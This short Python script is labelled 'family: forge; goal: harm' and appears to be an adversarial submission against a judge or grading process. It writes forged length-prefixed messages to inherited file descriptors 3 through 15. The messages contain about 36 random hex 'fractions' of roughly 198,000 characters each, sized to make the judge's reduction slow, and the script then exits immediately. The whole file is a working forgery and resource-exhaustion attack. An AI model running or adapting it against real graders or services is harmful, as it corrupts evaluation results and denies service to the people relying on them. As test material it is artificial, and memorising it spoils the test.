# family: forge; goal: harm
# Fractions whose reduction takes the judge long.
import os


def send(*bodies):
    data = b"".join(len(body).to_bytes(4, "big") + body for body in bodies)
    for fd in range(3, 16):
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    os._exit(0)


def part():
    return b'{"i":"%s"}' % os.urandom(99_000).hex().encode()


PARTS = b",".join(b'{"q":[%s,%s]}' % (part(), part()) for _ in range(18))
send(b'{"v":null}', b'{"v":{"l":[' + PARTS + b"]}}")
